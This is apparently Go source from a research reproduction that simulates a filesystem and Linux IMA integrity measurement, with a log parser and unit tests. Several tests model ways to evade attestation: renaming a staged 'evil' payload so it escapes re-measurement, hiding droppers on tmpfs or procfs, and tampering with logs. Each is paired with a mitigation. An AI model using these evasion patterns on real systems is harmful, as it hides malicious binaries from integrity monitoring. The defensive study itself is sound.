func (v *VFS) mountFor(p string) (*mount, error) {
	for _, m := range v.mounts { // sorted longest-first
		if m.point == "/" || p == m.point || strings.HasPrefix(p, m.point+"/") {
			return m, nil
		}
	}
	return nil, fmt.Errorf("%w: %q", ErrNotMounted, p)
}

// MountPoints returns the active mounts as (point, type) pairs sorted by path.
func (v *VFS) MountPoints() map[string]FSType {
	v.mu.RLock()
	defer v.mu.RUnlock()
	out := make(map[string]FSType, len(v.mounts))
	for _, m := range v.mounts {
		out[m.point] = m.fsType
	}
	return out
}

// WriteFile creates or overwrites the file at p with the given content and
// mode. Overwriting preserves the inode and bumps the generation counter.
func (v *VFS) WriteFile(p string, content []byte, mode Mode) error {
	p, err := cleanPath(p)
	if err != nil {
		return err
	}
	digest := sha256.Sum256(content)
	c := make([]byte, len(content))
	copy(c, content)
	return v.put(p, mode, int64(len(content)), digest, c)
}

// WriteFileDigest creates or overwrites the file at p recording only its
// digest and size. Used for paper-scale filesystems where storing hundreds
// of thousands of content blobs would be wasteful.
func (v *VFS) WriteFileDigest(p string, digest [sha256.Size]byte, size int64, mode Mode) error {
	p, err := cleanPath(p)
	if err != nil {
		return err
	}
	if size < 0 {
		return ErrEmptyContent
	}
	return v.put(p, mode, size, digest, nil)
}

func (v *VFS) put(p string, mode Mode, size int64, digest [sha256.Size]byte, content []byte) error {
	v.mu.Lock()
	defer v.mu.Unlock()
	m, err := v.mountFor(p)
	if err != nil {
		return err
	}
	if m.readOnly {
		if _, exists := v.files[p]; exists {
			return fmt.Errorf("%w: %q", ErrReadOnlyFS, p)
		}
		// Allow initial population of read-only filesystems (image build).
	}
	if f, ok := v.files[p]; ok {
		if f.digest != digest {
			f.generation++
		}
		f.mode = mode
		f.size = size
		f.digest = digest
		f.content = content
		return nil
	}
	ino := m.nextIno
	m.nextIno++
	v.files[p] = &file{fsID: m.fsID, inode: ino, mode: mode, size: size, digest: digest, content: content}
	return nil
}

// Chmod changes the mode of the file at p.
func (v *VFS) Chmod(p string, mode Mode) error {
	p, err := cleanPath(p)
	if err != nil {
		return err
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	f, ok := v.files[p]
	if !ok {
		return fmt.Errorf("%w: %q", ErrNotExist, p)
	}
	f.mode = mode
	return nil
}

// Remove deletes the file at p.
func (v *VFS) Remove(p string) error {
	p, err := cleanPath(p)
	if err != nil {
		return err
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	if _, ok := v.files[p]; !ok {
		return fmt.Errorf("%w: %q", ErrNotExist, p)
	}
	delete(v.files, p)
	return nil
}

// RemoveAll deletes every file under prefix (inclusive). It reports how many
// files were removed.
func (v *VFS) RemoveAll(prefix string) (int, error) {
	prefix, err := cleanPath(prefix)
	if err != nil {
		return 0, err
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	n := 0
	for p := range v.files {
		if p == prefix || strings.HasPrefix(p, prefix+"/") {
			delete(v.files, p)
			n++
		}
	}
	return n, nil
}

// Rename moves a file. Within one filesystem the inode and generation are
// preserved — the semantics IMA's measure-once cache keys on (paper P4).
// Across filesystems Rename behaves like copy+delete: the file receives a
// fresh inode on the destination filesystem.
func (v *VFS) Rename(oldPath, newPath string) error {
	oldPath, err := cleanPath(oldPath)
	if err != nil {
		return err
	}
	newPath, err = cleanPath(newPath)
	if err != nil {
		return err
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	f, ok := v.files[oldPath]
	if !ok {
		return fmt.Errorf("%w: %q", ErrNotExist, oldPath)
	}
	dst, err := v.mountFor(newPath)
	if err != nil {
		return err
	}
	if dst.readOnly {
		return fmt.Errorf("%w: %q", ErrReadOnlyFS, newPath)
	}
	delete(v.files, oldPath)
	if dst.fsID != f.fsID {
		// Cross-device: new identity on the destination filesystem.
		nf := *f
		nf.fsID = dst.fsID
		nf.inode = dst.nextIno
		nf.generation = 0
		dst.nextIno++
		v.files[newPath] = &nf
		return nil
	}
	v.files[newPath] = f
	return nil
}

// Stat returns the FileInfo for p.
func (v *VFS) Stat(p string) (FileInfo, error) {
	p, err := cleanPath(p)
	if err != nil {
		return FileInfo{}, err
	}
	v.mu.RLock()
	defer v.mu.RUnlock()
	f, ok := v.files[p]
	if !ok {
		return FileInfo{}, fmt.Errorf("%w: %q", ErrNotExist, p)
	}
	m, err := v.mountFor(p)
	if err != nil {
		return FileInfo{}, err
	}
	return FileInfo{
		Path:         p,
		FSID:         f.fsID,
		FSType:       m.fsType,
		Inode:        f.inode,
		Generation:   f.generation,
		Mode:         f.mode,
		Size:         f.size,
		Digest:       f.digest,
		IMASignature: f.xattrs[IMAXattr],
	}, nil
}

// SetXattr sets an extended attribute on an existing file.
func (v *VFS) SetXattr(p, name, value string) error {
	p, err := cleanPath(p)
	if err != nil {
		return err
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	f, ok := v.files[p]
	if !ok {
		return fmt.Errorf("%w: %q", ErrNotExist, p)
	}
	if f.xattrs == nil {
		f.xattrs = make(map[string]string)
	}
	f.xattrs[name] = value
	return nil
}

// Xattr reads an extended attribute.
func (v *VFS) Xattr(p, name string) (string, bool) {
	p, err := cleanPath(p)
	if err != nil {
		return "", false
	}
	v.mu.RLock()
	defer v.mu.RUnlock()
	f, ok := v.files[p]
	if !ok {
		return "", false
	}
	val, ok := f.xattrs[name]
	return val, ok
}

// Exists reports whether a file exists at p.
func (v *VFS) Exists(p string) bool {
	_, err := v.Stat(p)
	return err == nil
}

// ReadFile returns a copy of the file's content. Digest-only files return
// ErrNoContent.
func (v *VFS) ReadFile(p string) ([]byte, error) {
	p, err := cleanPath(p)
	if err != nil {
		return nil, err
	}
	v.mu.RLock()
	defer v.mu.RUnlock()
	f, ok := v.files[p]
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrNotExist, p)
	}
	if f.content == nil {
		return nil, fmt.Errorf("%w: %q", ErrNoContent, p)
	}
	out := make([]byte, len(f.content))
	copy(out, f.content)
	return out, nil
}

// Walk calls fn for every file whose path starts with prefix, in sorted path
// order. Returning a non-nil error from fn stops the walk.
func (v *VFS) Walk(prefix string, fn func(info FileInfo) error) error {
	prefix, err := cleanPath(prefix)
	if err != nil {
		return err
	}
	v.mu.RLock()
	paths := make([]string, 0, len(v.files))
	for p := range v.files {
		if prefix == "/" || p == prefix || strings.HasPrefix(p, prefix+"/") {
			paths = append(paths, p)
		}
	}
	v.mu.RUnlock()
	sort.Strings(paths)
	for _, p := range paths {
		info, err := v.Stat(p)
		if err != nil {
			if errors.Is(err, ErrNotExist) {
				continue // removed concurrently
			}
			return err
		}
		if err := fn(info); err != nil {
			return err
		}
	}
	return nil
}

// Len reports the number of files in the tree.
func (v *VFS) Len() int {
	v.mu.RLock()
	defer v.mu.RUnlock()
	return len(v.files)
}

// SyntheticContent deterministically expands a seed string into size bytes
// using a SHA-256 based PRF. It lets the mirror, machine and policy
// generator agree on file contents without shipping real binaries.
func SyntheticContent(seed string, size int) []byte {
	out := make([]byte, 0, size+sha256.Size)
	var counter uint64
	h := sha256.New()
	for len(out) < size {
		h.Reset()
		var ctr [8]byte
		binary.BigEndian.PutUint64(ctr[:], counter)
		h.Write([]byte(seed))
		h.Write(ctr[:])
		out = h.Sum(out)
		counter++
	}
	return out[:size]
}

// SyntheticDigest returns the SHA-256 digest of SyntheticContent(seed, size)
// without materializing the content when size is a multiple of the block
// output; it simply hashes the expanded stream. The helper exists so
// paper-scale runs can populate digest-only files cheaply.
func SyntheticDigest(seed string, size int) [sha256.Size]byte {
	return sha256.Sum256(SyntheticContent(seed, size))
}
