package ima

import (
	"encoding/hex"
	"errors"
	"fmt"
	"strconv"
	"strings"

	"repro/internal/tpm"
)

// Serialization of the measurement list in the kernel's ASCII format:
//
//	10 <template-hash> ima-ng  sha256:<file-digest> <path>
//	10 <template-hash> ima-sig sha256:<file-digest> <path> <sig-hex>
//
// one entry per line, as exposed via
// /sys/kernel/security/ima/ascii_runtime_measurements.

// Sentinel parse errors.
var (
	ErrMalformedEntry = errors.New("ima: malformed measurement entry")
)

// FormatEntry renders one entry as a log line (without trailing newline).
func FormatEntry(e Entry) string {
	var b strings.Builder
	b.Grow(24 + 2*len(e.TemplateHash) + 2*len(e.FileDigest) + len(e.Path) + len(e.Signature))
	b.WriteString(strconv.Itoa(e.PCR))
	b.WriteByte(' ')
	b.WriteString(hex.EncodeToString(e.TemplateHash[:]))
	b.WriteByte(' ')
	b.WriteString(e.Template())
	b.WriteString(" sha256:")
	b.WriteString(hex.EncodeToString(e.FileDigest[:]))
	b.WriteByte(' ')
	b.WriteString(e.Path)
	if e.Signature != "" {
		b.WriteByte(' ')
		b.WriteString(e.Signature)
	}
	return b.String()
}

// FormatLog renders the whole measurement list, one entry per line.
func FormatLog(entries []Entry) string {
	var b strings.Builder
	for _, e := range entries {
		b.WriteString(FormatEntry(e))
		b.WriteByte('\n')
	}
	return b.String()
}

// ParseEntry parses a single log line.
func ParseEntry(line string) (Entry, error) {
	// Split the four fixed fields by hand: a [5]string on the stack where
	// strings.SplitN would heap-allocate its result for every entry.
	var fields [5]string
	rest := line
	n := 0
	for ; n < 4; n++ {
		head, tail, ok := strings.Cut(rest, " ")
		if !ok {
			break
		}
		fields[n], rest = head, tail
	}
	fields[n] = rest
	if n != 4 {
		return Entry{}, fmt.Errorf("%w: %d fields in %q", ErrMalformedEntry, n+1, line)
	}
	pcr, err := strconv.Atoi(fields[0])
	if err != nil {
		return Entry{}, fmt.Errorf("%w: bad PCR %q: %v", ErrMalformedEntry, fields[0], err)
	}
	th, err := parseDigest(fields[1])
	if err != nil {
		return Entry{}, fmt.Errorf("%w: template hash: %v", ErrMalformedEntry, err)
	}
	if fields[2] != TemplateName && fields[2] != TemplateNameSig {
		return Entry{}, fmt.Errorf("%w: unsupported template %q", ErrMalformedEntry, fields[2])
	}
	algDigest, ok := strings.CutPrefix(fields[3], "sha256:")
	if !ok {
		return Entry{}, fmt.Errorf("%w: unsupported digest algorithm in %q", ErrMalformedEntry, fields[3])
	}
	fd, err := parseDigest(algDigest)
	if err != nil {
		return Entry{}, fmt.Errorf("%w: file digest: %v", ErrMalformedEntry, err)
	}
	path, sig := fields[4], ""
	if fields[2] == TemplateNameSig {
		// The signature is the last space-separated token; the path may
		// itself contain spaces.
		idx := strings.LastIndexByte(path, ' ')
		if idx <= 0 {
			return Entry{}, fmt.Errorf("%w: ima-sig entry missing signature", ErrMalformedEntry)
		}
		path, sig = path[:idx], path[idx+1:]
		if sig == "" || !isHex(sig) {
			return Entry{}, fmt.Errorf("%w: ima-sig signature %q not hex", ErrMalformedEntry, sig)
		}
	}
	return Entry{PCR: pcr, TemplateHash: th, FileDigest: fd, Path: path, Signature: sig}, nil
}

// isHex reports whether s is non-empty even-length hex.
func isHex(s string) bool {
	if len(s) == 0 || len(s)%2 != 0 {
		return false
	}
	_, err := hex.DecodeString(s)
	return err == nil
}

func parseDigest(s string) (tpm.Digest, error) {
	var d tpm.Digest
	if len(s) != 2*len(d) {
		return d, fmt.Errorf("digest is %d bytes, want %d", len(s)/2, len(d))
	}
	// Decode in place: hex.DecodeString would heap-allocate the raw bytes.
	for i := range d {
		hi, lo := hexNibble(s[2*i]), hexNibble(s[2*i+1])
		if hi < 0 || lo < 0 {
			return tpm.Digest{}, hex.InvalidByteError(s[2*i])
		}
		d[i] = byte(hi<<4 | lo)
	}
	return d, nil
}

// hexNibble decodes one hex character, returning -1 for non-hex input.
func hexNibble(c byte) int {
	switch {
	case '0' <= c && c <= '9':
		return int(c - '0')
	case 'a' <= c && c <= 'f':
		return int(c-'a') + 10
	case 'A' <= c && c <= 'F':
		return int(c-'A') + 10
	}
	return -1
}

// ParseLog parses a full ASCII measurement list. The empty log — the
// steady-state incremental fetch, where the verifier is already caught up —
// parses without allocating.
func ParseLog(s string) ([]Entry, error) {
	var out []Entry
	lineNo := 0
	for len(s) > 0 {
		line := s
		if i := strings.IndexByte(s, '\n'); i >= 0 {
			line, s = s[:i], s[i+1:]
		} else {
			s = ""
		}
		lineNo++
		line = strings.TrimRight(line, "\r")
		if line == "" {
			continue
		}
		e, err := ParseEntry(line)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		out = append(out, e)
	}
	return out, nil
}
