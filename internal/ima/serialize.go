package ima

import (
	"bufio"
	"encoding/hex"
	"errors"
	"fmt"
	"strconv"
	"strings"

	"repro/internal/tpm"
)

// Serialization of the measurement list in the kernel's ASCII format:
//
//	10 <template-hash> ima-ng  sha256:<file-digest> <path>
//	10 <template-hash> ima-sig sha256:<file-digest> <path> <sig-hex>
//
// one entry per line, as exposed via
// /sys/kernel/security/ima/ascii_runtime_measurements.

// Sentinel parse errors.
var (
	ErrMalformedEntry = errors.New("ima: malformed measurement entry")
)

// FormatEntry renders one entry as a log line (without trailing newline).
func FormatEntry(e Entry) string {
	var b strings.Builder
	b.Grow(24 + 2*len(e.TemplateHash) + 2*len(e.FileDigest) + len(e.Path) + len(e.Signature))
	b.WriteString(strconv.Itoa(e.PCR))
	b.WriteByte(' ')
	b.WriteString(hex.EncodeToString(e.TemplateHash[:]))
	b.WriteByte(' ')
	b.WriteString(e.Template())
	b.WriteString(" sha256:")
	b.WriteString(hex.EncodeToString(e.FileDigest[:]))
	b.WriteByte(' ')
	b.WriteString(e.Path)
	if e.Signature != "" {
		b.WriteByte(' ')
		b.WriteString(e.Signature)
	}
	return b.String()
}

// FormatLog renders the whole measurement list, one entry per line.
func FormatLog(entries []Entry) string {
	var b strings.Builder
	for _, e := range entries {
		b.WriteString(FormatEntry(e))
		b.WriteByte('\n')
	}
	return b.String()
}

// ParseEntry parses a single log line.
func ParseEntry(line string) (Entry, error) {
	fields := strings.SplitN(line, " ", 5)
	if len(fields) != 5 {
		return Entry{}, fmt.Errorf("%w: %d fields in %q", ErrMalformedEntry, len(fields), line)
	}
	pcr, err := strconv.Atoi(fields[0])
	if err != nil {
		return Entry{}, fmt.Errorf("%w: bad PCR %q: %v", ErrMalformedEntry, fields[0], err)
	}
	th, err := parseDigest(fields[1])
	if err != nil {
		return Entry{}, fmt.Errorf("%w: template hash: %v", ErrMalformedEntry, err)
	}
	if fields[2] != TemplateName && fields[2] != TemplateNameSig {
		return Entry{}, fmt.Errorf("%w: unsupported template %q", ErrMalformedEntry, fields[2])
	}
	algDigest, ok := strings.CutPrefix(fields[3], "sha256:")
	if !ok {
		return Entry{}, fmt.Errorf("%w: unsupported digest algorithm in %q", ErrMalformedEntry, fields[3])
	}
	fd, err := parseDigest(algDigest)
	if err != nil {
		return Entry{}, fmt.Errorf("%w: file digest: %v", ErrMalformedEntry, err)
	}
	path, sig := fields[4], ""
	if fields[2] == TemplateNameSig {
		// The signature is the last space-separated token; the path may
		// itself contain spaces.
		idx := strings.LastIndexByte(path, ' ')
		if idx <= 0 {
			return Entry{}, fmt.Errorf("%w: ima-sig entry missing signature", ErrMalformedEntry)
		}
		path, sig = path[:idx], path[idx+1:]
		if sig == "" || !isHex(sig) {
			return Entry{}, fmt.Errorf("%w: ima-sig signature %q not hex", ErrMalformedEntry, sig)
		}
	}
	return Entry{PCR: pcr, TemplateHash: th, FileDigest: fd, Path: path, Signature: sig}, nil
}

// isHex reports whether s is non-empty even-length hex.
func isHex(s string) bool {
	if len(s) == 0 || len(s)%2 != 0 {
		return false
	}
	_, err := hex.DecodeString(s)
	return err == nil
}

func parseDigest(s string) (tpm.Digest, error) {
	var d tpm.Digest
	raw, err := hex.DecodeString(s)
	if err != nil {
		return d, err
	}
	if len(raw) != len(d) {
		return d, fmt.Errorf("digest is %d bytes, want %d", len(raw), len(d))
	}
	copy(d[:], raw)
	return d, nil
}

// ParseLog parses a full ASCII measurement list.
func ParseLog(s string) ([]Entry, error) {
	var out []Entry
	sc := bufio.NewScanner(strings.NewReader(s))
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimRight(sc.Text(), "\r")
		if line == "" {
			continue
		}
		e, err := ParseEntry(line)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		out = append(out, e)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("ima: scanning log: %w", err)
	}
	return out, nil
}
