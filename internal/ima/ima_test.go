package ima

import (
	"crypto/sha256"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/tpm"
	"repro/internal/vfs"
)

// newMachineFS builds a vfs with the standard mounts used in tests.
func newMachineFS(t *testing.T) *vfs.VFS {
	t.Helper()
	v := vfs.New()
	for point, typ := range map[string]vfs.FSType{
		"/tmp":  vfs.FSTypeTmpfs,
		"/proc": vfs.FSTypeProcfs,
		"/sys":  vfs.FSTypeSysfs,
	} {
		if err := v.Mount(point, typ); err != nil {
			t.Fatalf("Mount %s: %v", point, err)
		}
	}
	return v
}

func newIMA(t *testing.T, opts ...Option) (*IMA, *tpm.PCRBank) {
	t.Helper()
	var bank tpm.PCRBank
	m, err := New(&bank, opts...)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return m, &bank
}

func writeExec(t *testing.T, v *vfs.VFS, path, content string) vfs.FileInfo {
	t.Helper()
	if err := v.WriteFile(path, []byte(content), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile %s: %v", path, err)
	}
	info, err := v.Stat(path)
	if err != nil {
		t.Fatalf("Stat %s: %v", path, err)
	}
	return info
}

func TestNewRecordsBootAggregate(t *testing.T) {
	m, bank := newIMA(t)
	entries := m.Entries(0)
	if len(entries) != 1 {
		t.Fatalf("len(entries) = %d, want 1 (boot aggregate)", len(entries))
	}
	if entries[0].Path != BootAggregatePath {
		t.Fatalf("entry path = %q, want boot_aggregate", entries[0].Path)
	}
	pcr, _ := bank.Read(tpm.PCRIMA)
	if pcr == (tpm.Digest{}) {
		t.Fatal("PCR10 not extended by boot aggregate")
	}
}

func TestNewNilBankRejected(t *testing.T) {
	if _, err := New(nil); err == nil {
		t.Fatal("New(nil) succeeded, want error")
	}
}

func TestMeasureExecutableAppendsEntryAndExtendsPCR(t *testing.T) {
	v := newMachineFS(t)
	m, bank := newIMA(t)
	info := writeExec(t, v, "/usr/bin/tool", "binary-v1")
	before, _ := bank.Read(tpm.PCRIMA)
	e, measured := m.Measure(info, info.Path, HookBprmCheck)
	if !measured {
		t.Fatal("executable on ext4 not measured")
	}
	if e.Path != "/usr/bin/tool" {
		t.Fatalf("entry path = %q", e.Path)
	}
	if want := sha256.Sum256([]byte("binary-v1")); e.FileDigest != want {
		t.Fatalf("file digest = %x, want %x", e.FileDigest, want)
	}
	if !e.Valid() {
		t.Fatal("entry template hash inconsistent")
	}
	after, _ := bank.Read(tpm.PCRIMA)
	if before == after {
		t.Fatal("PCR10 unchanged after measurement")
	}
}

func TestMeasureOncePerInode_P4(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t)
	info := writeExec(t, v, "/usr/bin/tool", "x")
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("first measurement skipped")
	}
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); measured {
		t.Fatal("second measurement of unchanged file recorded; want skip")
	}
}

func TestRenameWithinFSNotReMeasured_P4(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t)
	// Stage at a path Keylime ignores but IMA measures, then move to /usr.
	info := writeExec(t, v, "/var/staging/payload", "evil")
	if _, measured := m.Measure(info, info.Path, HookFileCheck); measured {
		// default policy has no FILE_CHECK measure rule
		t.Fatal("FILE_CHECK measured under default policy")
	}
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("staged payload not measured at exec")
	}
	if err := v.Rename("/var/staging/payload", "/usr/bin/payload"); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	moved, _ := v.Stat("/usr/bin/payload")
	if _, measured := m.Measure(moved, moved.Path, HookBprmCheck); measured {
		t.Fatal("IMA re-measured renamed file; P4 behaviour requires skip")
	}
	// The log must still show only the OLD path.
	for _, e := range m.Entries(0) {
		if e.Path == "/usr/bin/payload" {
			t.Fatal("log contains destination path; want only staging path")
		}
	}
}

func TestReEvaluateOnPathChangeMitigation(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t, WithReEvaluateOnPathChange(true))
	info := writeExec(t, v, "/var/staging/payload", "evil")
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("first measurement skipped")
	}
	if err := v.Rename("/var/staging/payload", "/usr/bin/payload"); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	moved, _ := v.Stat("/usr/bin/payload")
	if _, measured := m.Measure(moved, moved.Path, HookBprmCheck); !measured {
		t.Fatal("mitigated IMA did not re-measure after path change")
	}
	found := false
	for _, e := range m.Entries(0) {
		if e.Path == "/usr/bin/payload" {
			found = true
		}
	}
	if !found {
		t.Fatal("destination path missing from log under mitigation")
	}
}

func TestContentChangeTriggersReMeasurement(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t)
	info := writeExec(t, v, "/usr/bin/tool", "v1")
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("first measurement skipped")
	}
	info2 := writeExec(t, v, "/usr/bin/tool", "v2") // overwrite bumps generation
	e, measured := m.Measure(info2, info2.Path, HookBprmCheck)
	if !measured {
		t.Fatal("updated file not re-measured")
	}
	if want := sha256.Sum256([]byte("v2")); e.FileDigest != want {
		t.Fatalf("re-measured digest = %x, want new content digest", e.FileDigest)
	}
}

func TestIgnoredFilesystemsNotMeasured_P3(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t)
	for _, p := range []string{"/tmp/dropper", "/proc/fake-exec"} {
		info := writeExec(t, v, p, "payload:"+p)
		if _, measured := m.Measure(info, info.Path, HookBprmCheck); measured {
			t.Fatalf("file on ignored filesystem measured: %s", p)
		}
	}
	if got := m.Len(); got != 1 {
		t.Fatalf("log length = %d, want 1 (only boot aggregate)", got)
	}
}

func TestMitigatedPolicyMeasuresTmpfsAndProcfs(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t, WithPolicy(MitigatedPolicy()))
	for _, p := range []string{"/tmp/dropper", "/proc/fake-exec"} {
		info := writeExec(t, v, p, "payload:"+p)
		if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
			t.Fatalf("mitigated policy did not measure %s", p)
		}
	}
	// sysfs stays ignored.
	info := writeExec(t, v, "/sys/thing", "x")
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); measured {
		t.Fatal("mitigated policy measured sysfs")
	}
}

func TestVisiblePathRecordedNotRealPath(t *testing.T) {
	// Models the SNAP truncation: the kernel sees the in-namespace path.
	v := vfs.New()
	m, _ := newIMA(t)
	if err := v.WriteFile("/snap/core20/1234/usr/bin/python3", []byte("py"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	info, _ := v.Stat("/snap/core20/1234/usr/bin/python3")
	e, measured := m.Measure(info, "/usr/bin/python3", HookBprmCheck)
	if !measured {
		t.Fatal("snap binary not measured")
	}
	if e.Path != "/usr/bin/python3" {
		t.Fatalf("recorded path = %q, want truncated visible path", e.Path)
	}
}

func TestRebootClearsLogAndCache(t *testing.T) {
	v := newMachineFS(t)
	m, bank := newIMA(t)
	info := writeExec(t, v, "/usr/bin/tool", "x")
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("not measured")
	}
	m.Reboot()
	entries := m.Entries(0)
	if len(entries) != 1 || entries[0].Path != BootAggregatePath {
		t.Fatalf("after reboot entries = %+v, want fresh boot aggregate only", entries)
	}
	// Cache cleared: the same file is measured again.
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("file not re-measured after reboot")
	}
	// Replay of the fresh log matches PCR10.
	pcr, _ := bank.Read(tpm.PCRIMA)
	if ReplayAggregate(m.Entries(0)) != pcr {
		t.Fatal("replay mismatch after reboot")
	}
}

func TestBootAggregateDiffersAcrossBoots(t *testing.T) {
	m, _ := newIMA(t)
	first := m.Entries(0)[0]
	m.Reboot()
	second := m.Entries(0)[0]
	if first.FileDigest == second.FileDigest {
		t.Fatal("boot aggregate identical across boots")
	}
}

func TestEntriesOffsetAndCopy(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t)
	for i, p := range []string{"/bin/a", "/bin/b", "/bin/c"} {
		info := writeExec(t, v, p, p)
		if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
			t.Fatalf("entry %d not measured", i)
		}
	}
	tail := m.Entries(2)
	if len(tail) != 2 { // boot aggregate + 3 files, offset 2 -> entries 2,3
		t.Fatalf("Entries(2) len = %d, want 2", len(tail))
	}
	if tail[0].Path != "/bin/b" {
		t.Fatalf("Entries(2)[0].Path = %q, want /bin/b", tail[0].Path)
	}
	if got := m.Entries(99); got != nil {
		t.Fatalf("Entries(99) = %v, want nil", got)
	}
	// Mutating the returned slice must not corrupt the log.
	tail[0].Path = "/mutated"
	if m.Entries(2)[0].Path != "/bin/b" {
		t.Fatal("Entries returned internal slice")
	}
	if m.Entries(-5) == nil {
		t.Fatal("negative offset should clamp to full log")
	}
}

func TestReplayAggregateMatchesPCR(t *testing.T) {
	v := newMachineFS(t)
	m, bank := newIMA(t)
	for _, p := range []string{"/bin/a", "/bin/b", "/usr/lib/c.so"} {
		info := writeExec(t, v, p, "content:"+p)
		hook := HookBprmCheck
		if p == "/usr/lib/c.so" {
			hook = HookFileMmap
		}
		if _, measured := m.Measure(info, info.Path, hook); !measured {
			t.Fatalf("%s not measured", p)
		}
	}
	pcr, _ := bank.Read(tpm.PCRIMA)
	if got := ReplayAggregate(m.Entries(0)); got != pcr {
		t.Fatalf("replay = %x, PCR10 = %x", got, pcr)
	}
}

func TestReplayDetectsTampering(t *testing.T) {
	v := newMachineFS(t)
	m, bank := newIMA(t)
	info := writeExec(t, v, "/bin/a", "a")
	_, _ = m.Measure(info, info.Path, HookBprmCheck)
	entries := m.Entries(0)
	pcr, _ := bank.Read(tpm.PCRIMA)
	// Attacker deletes the incriminating entry.
	truncated := entries[:1]
	if ReplayAggregate(truncated) == pcr {
		t.Fatal("truncated log still replays to PCR value")
	}
	// Attacker rewrites an entry's digest.
	entries[1].FileDigest = sha256.Sum256([]byte("benign"))
	entries[1].TemplateHash = TemplateHash(entries[1].FileDigest, entries[1].Path)
	if ReplayAggregate(entries) == pcr {
		t.Fatal("rewritten log still replays to PCR value")
	}
}

func TestPolicyFirstMatchWins(t *testing.T) {
	p := Policy{
		{Action: ActionDontMeasure, FSTypes: []vfs.FSType{vfs.FSTypeTmpfs}},
		{Action: ActionMeasure, Hook: HookBprmCheck},
	}
	if p.ShouldMeasure(HookBprmCheck, vfs.FSTypeTmpfs, "/tmp/x") {
		t.Fatal("dont_measure rule did not take precedence")
	}
	if !p.ShouldMeasure(HookBprmCheck, vfs.FSTypeExt4, "/usr/bin/x") {
		t.Fatal("measure rule did not match ext4 exec")
	}
	if p.ShouldMeasure(HookFileCheck, vfs.FSTypeExt4, "/etc/x") {
		t.Fatal("unmatched hook measured; kernel default is no measurement")
	}
}

func TestSetPolicyAffectsFutureMeasurements(t *testing.T) {
	v := newMachineFS(t)
	m, _ := newIMA(t)
	info := writeExec(t, v, "/tmp/x", "x")
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); measured {
		t.Fatal("tmpfs measured under default policy")
	}
	m.SetPolicy(MitigatedPolicy())
	if _, measured := m.Measure(info, info.Path, HookBprmCheck); !measured {
		t.Fatal("tmpfs not measured after policy change")
	}
}

func TestFormatParseEntryRoundTrip(t *testing.T) {
	e := Entry{
		PCR:        10,
		FileDigest: sha256.Sum256([]byte("content")),
		Path:       "/usr/bin/python3.10",
	}
	e.TemplateHash = TemplateHash(e.FileDigest, e.Path)
	line := FormatEntry(e)
	got, err := ParseEntry(line)
	if err != nil {
		t.Fatalf("ParseEntry(%q): %v", line, err)
	}
	if got != e {
		t.Fatalf("round trip: got %+v, want %+v", got, e)
	}
}

func TestParseEntryPathWithSpaces(t *testing.T) {
	e := Entry{PCR: 10, FileDigest: sha256.Sum256([]byte("x")), Path: "/opt/My App/run me.sh"}
	e.TemplateHash = TemplateHash(e.FileDigest, e.Path)
	got, err := ParseEntry(FormatEntry(e))
	if err != nil {
		t.Fatalf("ParseEntry: %v", err)
	}
	if got.Path != e.Path {
		t.Fatalf("path = %q, want %q", got.Path, e.Path)
	}
}

func TestParseLogRejectsMalformed(t *testing.T) {
	cases := []string{
		"10 zzzz ima-ng sha256:00 /bin/x",
		"10 00 ima-ng sha256:00 /bin/x",
		"ten 00 ima-ng sha256:00 /bin/x",
		"10 00 ima-sig sha256:00 /bin/x",
		"10 00 ima-ng md5:00 /bin/x",
		"10 00 ima-ng",
	}
	for _, line := range cases {
		if _, err := ParseLog(line + "\n"); err == nil {
			t.Fatalf("ParseLog(%q) succeeded, want error", line)
		}
	}
}

func TestFormatParseLogRoundTripProperty(t *testing.T) {
	f := func(paths []string, seeds []byte) bool {
		n := len(paths)
		if len(seeds) < n {
			n = len(seeds)
		}
		entries := make([]Entry, 0, n)
		for i := 0; i < n; i++ {
			p := "/x/" + sanitizePath(paths[i])
			e := Entry{PCR: 10, FileDigest: sha256.Sum256([]byte{seeds[i]}), Path: p}
			e.TemplateHash = TemplateHash(e.FileDigest, e.Path)
			entries = append(entries, e)
		}
		parsed, err := ParseLog(FormatLog(entries))
		if err != nil {
			return false
		}
		if len(parsed) != len(entries) {
			return false
		}
		for i := range parsed {
			if parsed[i] != entries[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

// sanitizePath strips newlines/CRs which the line-oriented format cannot carry.
